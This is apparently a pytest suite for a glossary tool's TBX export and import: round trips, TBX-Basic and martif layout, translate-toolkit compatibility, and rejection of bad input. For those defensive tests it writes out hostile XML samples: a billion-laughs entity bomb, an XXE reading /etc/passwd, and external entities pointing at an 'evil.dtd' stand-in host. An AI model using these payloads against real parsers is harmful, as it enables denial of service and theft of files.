"""TBX export and import: exact round trips, TBX-Basic layout, foreign files, unsafe XML."""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from translate.storage import tbx as tt_tbx

import interchange_strategies as S
from xlate.errors import FormatError
from xlate.glossary.tbx import TBX_NS, export_tbx, read_tbx
from xlate.model import Entry, Form, Glossary, Kind, Rendering, Status

DATA = Path(__file__).parent / "data" / "interchange"


P, A, D, F = Status.PREFERRED, Status.ADMITTED, Status.DEPRECATED, Status.FORBIDDEN
FAST = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])

SAMPLE = Glossary((
    Entry(id="wi_sung_lac", kind=Kind.PERSON,
          forms=(Form("Wi Sung-lac", P), Form("Sung-lac Wi", A), Form("Wi Seong-rak", D),
                 Form("Wi Sung-lak", F, note="a known typo")),
          renderings={"ko": Rendering("ko", (Form("위성락", P), Form("위성낙", F)),
                                      note="Second reference: 위 실장."),
                      "ja": Rendering("ja", (Form("魏聖洛", P),))},
          hangul="위성락", hanja="魏聖洛", see=("presidential_office",),
          note="Romanisation <as> used & \"quoted\" by him."),
    Entry(id="presidential_office", kind=Kind.BODY, forms=(Form("presidential office", P),),
          renderings={"ko": Rendering("ko", (
              Form("대통령실", P, valid_until=dt.date(2025, 12, 28)),
              Form("청와대", P, valid_from=dt.date(2025, 12, 29),
                   note="xlate: looks like a field"),
          ))},
          case_sensitive=False),
))


# --- round trips --------------------------------------------------------------------------------

@pytest.mark.parametrize("dialect", ["v3", "v2"])
def test_sample_round_trips(dialect):
    assert read_tbx(export_tbx(SAMPLE, dialect=dialect)) == SAMPLE


@pytest.mark.parametrize("dialect", ["v3", "v2"])
@FAST
@given(glossary=S.glossaries(grouped=False))
def test_any_glossary_round_trips_exactly(dialect, glossary):
    data = export_tbx(glossary, dialect=dialect)
    assert read_tbx(data) == glossary
    assert export_tbx(read_tbx(data), dialect=dialect) == data  # and byte-stable


@FAST
@given(glossary=S.glossaries(grouped=False))
def test_another_source_locale_round_trips(glossary):
    data = export_tbx(glossary, source_locale="de")
    assert b'xml:lang="de"' in data
    assert read_tbx(data, source_locale="de") == glossary


@pytest.mark.parametrize("dialect", ["v3", "v2"])
def test_our_own_files_keep_white_space_verbatim(dialect):
    # The loader strips texts, but TBX must not rely on that: what we write comes back as is.
    glossary = Glossary((Entry(id="w", kind=Kind.TERM,
                               forms=(Form("  two  spaces ", P, note="\n line\r\n\ttab \n"),),
                               note=" padded "),))
    assert read_tbx(export_tbx(glossary, dialect=dialect)) == glossary


def test_export_is_deterministic_utf8_and_pretty():
    first = export_tbx(SAMPLE)
    assert first == export_tbx(Glossary(tuple(SAMPLE.entries)))
    text = first.decode("utf-8")
    assert "위성락" in text and "&lt;as&gt;" in text and "&amp;" in text
    assert "\n      <conceptEntry id=\"wi_sung_lac\">\n        <note>" in text


# --- layout -------------------------------------------------------------------------------------

def test_v3_follows_tbx_basic_dca():
    text = export_tbx(SAMPLE).decode()
    lines = text.splitlines()
    assert lines[0] == '<?xml version="1.0" encoding="UTF-8"?>'
    assert lines[1].startswith("<?xml-model href=") and "TBXcoreStructV03_TBX-Basic_integrated" \
        ".rng" in lines[1] and 'schematypens="http://relaxng.org/ns/structure/1.0"' in lines[1]
    assert "TBX-Basic_DCA.sch" in lines[2] and "schematron" in lines[2]
    assert lines[3] == (f'<tbx xmlns="{TBX_NS}" type="TBX-Basic" style="dca" xml:lang="en">')
    for piece in ("<tbxHeader>", "<fileDesc>", "<sourceDesc>", "<text>", "<body>",
                  '<langSec xml:lang="en">', '<langSec xml:lang="ko">', "<termSec>",
                  "<term>Wi Sung-lac</term>",
                  '<termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>',
                  '<termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>',
                  '<termNote type="administrativeStatus">supersededTerm-admn-sts</termNote>',
                  '<termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>',
                  "<note>xlate:kind=person</note>", "<note>xlate:case_sensitive=false</note>",
                  "<note>xlate:hangul=위성락</note>",
                  "<note>xlate:valid_until=2025-12-28</note>",
                  "<note>xlate:note=xlate: looks like a field</note>",
                  '<ref type="crossReference" target="presidential_office">'):
        assert piece in text, piece
    # TBX-Basic order: concept-level notes and refs, then language sections; term, termNote, note.
    concept = text[text.index('<conceptEntry id="wi_sung_lac">'):]
    assert concept.index("<ref ") < concept.index("<langSec")
    term = concept[concept.index("<term>Wi Sung-lak</term>"):]
    assert term.index("<termNote") < term.index("<note>a known typo</note>")


def test_v2_is_the_martif_layout():
    text = export_tbx(SAMPLE, dialect="v2").decode()
    assert '<!DOCTYPE martif SYSTEM "TBXBasiccoreStructV02.dtd">' in text
    assert '<martif type="TBX-Basic" xml:lang="en">' in text
    for piece in ("<martifHeader>", '<p type="XCSURI">TBXBasicXCSV02.xcs</p>',
                  '<termEntry id="wi_sung_lac">', '<langSet xml:lang="ko">', "<tig>",
                  "<term>위성낙</term>"):
        assert piece in text, piece
    assert "conceptEntry" not in text and "xmlns" not in text


def test_unknown_dialect_is_a_usage_error():
    with pytest.raises(ValueError):
        export_tbx(SAMPLE, dialect="v4")


def test_text_xml_cannot_hold_is_a_clear_error():
    bad = Glossary((Entry(id="x", kind=Kind.TERM, forms=(Form("bell\x07", P),)),))
    with pytest.raises(FormatError, match="control character"):
        export_tbx(bad)


@pytest.mark.skipif(shutil.which("xmllint") is None, reason="xmllint not installed")
@pytest.mark.parametrize("dialect", ["v3", "v2"])
def test_xmllint_finds_the_export_well_formed(dialect, tmp_path):
    path = tmp_path / "out.tbx"
    path.write_bytes(export_tbx(SAMPLE, dialect=dialect))
    result = subprocess.run(["xmllint", "--noout", "--nonet", str(path)], capture_output=True,
                            text=True)
    assert result.returncode == 0, result.stderr


# --- translate-toolkit (what Weblate reads) ------------------------------------------------------

def _toolkit_view(data: bytes, locales) -> list[tuple]:
    store = tt_tbx.tbxfile.parsestring(data)
    return [(unit.getid(),
             [(t.text, t.administrative_status) for t in unit.get_source_terms()],
             {loc: [(t.text, t.administrative_status) for t in unit.get_target_terms(loc)]
              for loc in locales})
            for unit in store.units]


def _expected_view(glossary: Glossary, locales) -> list[tuple]:
    from xlate.glossary.tbx import STATUS_TO_TBX

    def terms(forms):
        return [(f.text, STATUS_TO_TBX[f.status]) for f in forms]

    return [(e.id, terms(e.forms),
             {loc: terms(e.renderings[loc].forms) if loc in e.renderings else []
              for loc in locales})
            for e in glossary]


def test_translate_toolkit_reads_every_term_of_the_v2_export():
    locales = ("ko", "ja")
    assert _toolkit_view(export_tbx(SAMPLE, dialect="v2"), locales) == \
        _expected_view(SAMPLE, locales)
    store = tt_tbx.tbxfile.parsestring(export_tbx(SAMPLE, dialect="v2"))
    notes = store.units[0].getnotes()
    assert "Romanisation <as> used" in notes and "Second reference: 위 실장." in notes


@settings(max_examples=30, deadline=None)
@given(glossary=S.glossaries(grouped=False))
def test_translate_toolkit_sees_all_languages_of_any_export(glossary):
    assert _toolkit_view(export_tbx(glossary, dialect="v2"), S.LOCALES) == \
        _expected_view(glossary, S.LOCALES)


def test_a_file_translate_toolkit_writes_imports():
    store = tt_tbx.tbxfile(sourcelanguage="en", targetlanguage="ko")
    unit = store.addsourceunit("National Assembly")
    unit.settarget("국회")
    glossary = read_tbx(bytes(store))
    assert [(e.forms[0].text, e.renderings["ko"].forms[0].text) for e in glossary] == \
        [("National Assembly", "국회")]
    assert glossary.entries[0].id == "national_assembly"
    assert glossary.entries[0].forms[0].status is P


# --- foreign files ------------------------------------------------------------------------------

def test_foreign_v3_file_imports_sensibly():
    glossary = read_tbx((DATA / "foreign_v3.tbx").read_bytes(), path="foreign_v3.tbx")
    assert glossary == Glossary((
        Entry(id="c1", kind=Kind.TERM,
              forms=(Form("summit", P), Form("summit meeting", A, note="Longer form."),
                     Form("top meeting", F)),
              renderings={"ko-KR": Rendering("ko-KR",
                                             (Form("정상회담", P), Form("정상 회담", A))),
                          "fr-FR": Rendering("fr-FR", (Form("sommet", P),
                                                       Form("réunion au sommet", D)))},
              see=("c2",), note="Used by the foreign desk.\nA meeting of heads of state."),
        Entry(id="c2", kind=Kind.TERM,
              forms=(Form("North Atlantic Treaty Organization", P), Form("NATO", A)),
              renderings={"ja": Rendering("ja",
                                          (Form("北大西洋条約機構", P, note="正式名称"),))}),
        Entry(id="cheong_wa_dae", kind=Kind.TERM,
              forms=(Form("Blue House", D), Form("Cheong Wa Dae", P))),
        Entry(id="cheong_wa_dae_2", kind=Kind.TERM, forms=(Form("Cheong Wa Dae", P),)),
    ))


def test_foreign_v2_file_imports_sensibly():
    glossary = read_tbx((DATA / "foreign_v2.tbx").read_bytes(), path="foreign_v2.tbx")
    assert glossary == Glossary((
        Entry(id="c_12", kind=Kind.TERM,
              forms=(Form("National Assembly", P), Form("Assembly", A)),
              renderings={"ko": Rendering("ko", (Form("국회", P),
                                                 Form("국민의회", F, note="Wrong body.")),
                                          note="Use 국회 on first reference.")},
              note="Legislature of South Korea."),
        Entry(id="speaker", kind=Kind.TERM, forms=(Form("Speaker", P),),
              renderings={"ko": Rendering("ko", (Form("국회의장", P),))}, see=("c_12",)),
    ))


def test_v3_without_namespace_and_other_source_tags():
    data = b"""<tbx type="TBX-Basic" style="dca" xml:lang="en"><text><body>
      <conceptEntry id="x"><langSec xml:lang="EN_us"><termSec><term>one</term></termSec>
      </langSec><langSec><termSec><term>two</term></termSec></langSec></conceptEntry>
    </body></text></tbx>"""
    (entry,) = read_tbx(data).entries
    # A section without xml:lang inherits the document's language: also the source.
    assert entry.forms == (Form("one", P), Form("two", P))
    assert dict(entry.renderings) == {}


def test_dct_style_status_and_short_status_values():
    data = b"""<tbx xmlns="urn:iso:std:iso:30042:ed-2" xmlns:min="http://www.tbxinfo.net/ns/min"
      type="TBX-Basic" style="dct" xml:lang="en"><text><body><conceptEntry id="x">
      <langSec xml:lang="en">
        <termSec><term>a</term>
          <min:administrativeStatus>admitted</min:administrativeStatus></termSec>
        <termSec><term>b</term><termNote type="administrativeStatus">preferred</termNote></termSec>
      </langSec></conceptEntry></body></text></tbx>"""
    assert read_tbx(data).entries[0].forms == (Form("a", A), Form("b", P))


# --- unsafe and broken input --------------------------------------------------------------------

UNSAFE = {
    "billion laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<tbx><text><body>&lol3;</body></text></tbx>""",
    "external entity": b"""<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<tbx><text><body><conceptEntry><langSec xml:lang="en"><termSec><term>&xxe;</term></termSec>
</langSec></conceptEntry></body></text></tbx>""",
    "external parameter entity": b"""<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]><tbx/>""",
    "external DTD file": b"""<?xml version="1.0"?>
<!DOCTYPE martif SYSTEM "file:///etc/passwd"><martif/>""",
    "external DTD URL": b"""<?xml version="1.0"?>
<!DOCTYPE martif SYSTEM "http://example.invalid/evil.dtd"><martif>&ent;</martif>""",
}


@pytest.mark.parametrize("name", sorted(UNSAFE))
def test_unsafe_xml_is_refused_with_one_clear_line(name):
    with pytest.raises(FormatError) as info:
        read_tbx(UNSAFE[name], path="evil.tbx")
    message = str(info.value)
    assert message.startswith("evil.tbx") and "refusing unsafe XML" in message
    assert "\n" not in message


def test_entity_declarations_are_named_as_the_reason():
    with pytest.raises(FormatError, match="entity declarations are not allowed"):
        read_tbx(UNSAFE["billion laughs"], path="evil.tbx")


def test_a_plain_dtd_name_like_tbx_v2_files_carry_is_accepted_and_never_loaded():
    data = (b'<?xml version="1.0"?>\n<!DOCTYPE martif SYSTEM "TBXBasiccoreStructV02.dtd">\n'
            b'<martif xml:lang="en"><text><body/></text></martif>')
    assert read_tbx(data) == Glossary()


def test_malformed_xml_names_the_line():
    with pytest.raises(FormatError) as info:
        read_tbx(b'<?xml version="1.0"?>\n<tbx>\n  <text>\n</tbx>\n', path="bad.tbx")
    assert info.value.line == 4
    assert str(info.value).startswith("bad.tbx:4: not well-formed XML: mismatched tag")


NOT_TBX = "(expected TBX v3 'tbx' in urn:iso:std:iso:30042:ed-2, or TBX v2 'martif')"


@pytest.mark.parametrize("data, message", [
    (b'<?xml version="1.0"?>\n<tbx xmlns="urn:example:not-tbx"><text><body/></text></tbx>',
     f"x.tbx:2: not a TBX file: root element {{urn:example:not-tbx}}tbx {NOT_TBX}"),
    (b'<martif xmlns="urn:example:not-tbx"><text><body/></text></martif>',
     f"x.tbx:1: not a TBX file: root element {{urn:example:not-tbx}}martif {NOT_TBX}"),
    (b'<tbx xmlns="urn:iso:std:iso:30042:ed-1"><text><body/></text></tbx>',
     f"x.tbx:1: not a TBX file: root element {{urn:iso:std:iso:30042:ed-1}}tbx {NOT_TBX}"),
    (b"<!-- a page -->\n\n<html><body/></html>",
     f"x.tbx:3: not a TBX file: root element html {NOT_TBX}"),
    (b"<conceptEntry/>", f"x.tbx:1: not a TBX file: root element conceptEntry {NOT_TBX}"),
    (b"<tbx>\n<entry/>\n</tbx>", "x.tbx:1: not a TBX file: root element tbx without a namespace "
     f"has no <text><body> {NOT_TBX}"),
])
def test_a_root_that_is_not_tbx_is_refused_with_what_was_found_and_expected(data, message):
    with pytest.raises(FormatError) as info:
        read_tbx(data, path="x.tbx")
    assert str(info.value) == message


def test_a_namespaced_root_is_refused_even_with_tbx_content_inside():
    # Only the namespace tells a foreign vocabulary apart: its entries are never read.
    foreign = export_tbx(SAMPLE).replace(TBX_NS.encode(), b"urn:example:not-tbx")
    with pytest.raises(FormatError, match="not a TBX file"):
        read_tbx(foreign, path="x.tbx")


def test_tbx_without_a_namespace_is_read_when_it_has_tbx_structure():
    data = export_tbx(SAMPLE).replace(f' xmlns="{TBX_NS}"'.encode(), b"")
    assert b"xmlns" not in data
    assert read_tbx(data) == SAMPLE


@pytest.mark.parametrize("data, reason", [
    (b"<html><body/></html>", "not a TBX file"),
    (b"", "not well-formed XML"),
    (b'<tbx><text><body><conceptEntry><note>xlate:kind=robot</note></conceptEntry></body></text>'
     b'</tbx>', "unknown kind 'robot'"),
    (b'<tbx><text><body><conceptEntry id="x"><note>xlate:kind=term</note><langSec xml:lang="en">'
     b'<termSec><term>a</term><note>xlate:valid_from=someday</note></termSec></langSec>'
     b'</conceptEntry></body></text></tbx>', "is not a date"),
    (b'<tbx><text><body><conceptEntry id="x"><note>xlate:colour=blue</note></conceptEntry>'
     b'</body></text></tbx>', "unknown xlate field"),
    (b'<tbx><text><body><conceptEntry id="x"><langSec><termSec><term>a</term></termSec>'
     b'</langSec></conceptEntry></body></text></tbx>', "has no xml:lang"),
])
def test_bad_content_is_a_format_error(data, reason):
    with pytest.raises(FormatError, match=reason):
        read_tbx(data, path="x.tbx")


# --- the glossary files, through the loader ------------------------------------------------------

def _folders():
    folders = [DATA / "glossary"]
    real = Path(__file__).resolve().parents[1] / "glossary"
    if any(real.glob("*.toml")):
        folders.append(real)
    return folders


@pytest.mark.parametrize("folder", _folders(), ids=lambda p: p.parent.name + "/" + p.name)
@pytest.mark.parametrize("dialect", ["v3", "v2"])
def test_glossary_folder_survives_export_and_import(folder, dialect):
    from xlate.glossary.load import load_glossary

    glossary = load_glossary(folder).glossary
    assert len(glossary) > 0
    assert read_tbx(export_tbx(glossary, dialect=dialect)) == glossary


# --- hostile files under tests/data/bad/tbx ------------------------------------------------------

BAD = Path(__file__).parent / "data" / "bad" / "tbx"
BAD_FILES = {  # file -> (line, what the one-line message says)
    "billion_laughs.tbx": (3, "refusing unsafe XML: entity declarations are not allowed"),
    "xxe_passwd.tbx": (2, "refusing unsafe XML: entity declarations are not allowed"),
    "external_parameter_entity.tbx": (2, "refusing unsafe XML: entity declarations are not "
                                         "allowed"),
    "external_dtd.tbx": (2, "refusing unsafe XML: external DTD "
                            "'http://example.invalid/TBXcoreStructV02.dtd' is not allowed"),
    "foreign_namespace.tbx": (2, "not a TBX file: root element {urn:example:not-tbx}tbx"),
    "xhtml_root.tbx": (3, "not a TBX file: root element {http://www.w3.org/1999/xhtml}html"),
    "bare_tbx_no_body.tbx": (2, "not a TBX file: root element tbx without a namespace"),
    "not_well_formed.tbx": (6, "not well-formed XML: mismatched tag"),
}


def test_every_bad_tbx_file_has_an_expected_message():
    assert sorted(p.name for p in BAD.glob("*.tbx")) == sorted(BAD_FILES)


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_bad_tbx_files_are_refused_with_one_line_naming_file_and_line(name):
    line, words = BAD_FILES[name]
    with pytest.raises(FormatError) as info:
        read_tbx((BAD / name).read_bytes(), path=name)
    message = str(info.value)
    assert message.startswith(f"{name}:{line}: {words}"), message
    assert "\n" not in message


def test_billion_laughs_is_refused_before_anything_is_expanded():
    # Nine levels of ten: a billion bytes if expanded. Refused at the first declaration, the
    # parse allocates next to nothing (a count of bytes, not of time: deterministic).
    import tracemalloc

    data = (BAD / "billion_laughs.tbx").read_bytes()
    assert data.count(b"<!ENTITY") == 10
    tracemalloc.start()
    try:
        with pytest.raises(FormatError, match="entity declarations"):
            read_tbx(data, path="b.tbx")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2_000_000


_OPENED: list[str] = []
_WATCHING: list[bool] = []
_HOOKED: list[bool] = []


def _audit(event: str, args: tuple) -> None:
    if _WATCHING and event in ("open", "os.listdir", "socket.connect", "urllib.Request"):
        _OPENED.append(f"{event} {args[0]!r}")


@pytest.mark.parametrize("name", ["xxe_passwd.tbx", "external_parameter_entity.tbx",
                                  "external_dtd.tbx"])
def test_external_references_touch_no_file_and_no_network(name, tmp_path):
    import sys

    if not _HOOKED:
        sys.addaudithook(_audit)  # hooks cannot be removed: this one only records when asked
        _HOOKED.append(True)
    # Point the references at a file of our own, which must never be opened.
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET", encoding="utf-8")
    _WATCHING.append(True)
    secret.read_bytes()  # the hook sees an open
    _WATCHING.clear()
    assert _OPENED and str(secret) in _OPENED[0]
    data = (BAD / name).read_bytes().replace(b"file:///etc/passwd", secret.as_uri().encode())
    data = data.replace(b"http://example.invalid/TBXcoreStructV02.dtd", secret.as_uri().encode())
    _OPENED.clear()
    _WATCHING.append(True)
    try:
        with pytest.raises(FormatError) as info:
            read_tbx(data, path=name)
    finally:
        _WATCHING.clear()
    assert _OPENED == []
    assert "SECRET" not in str(info.value)
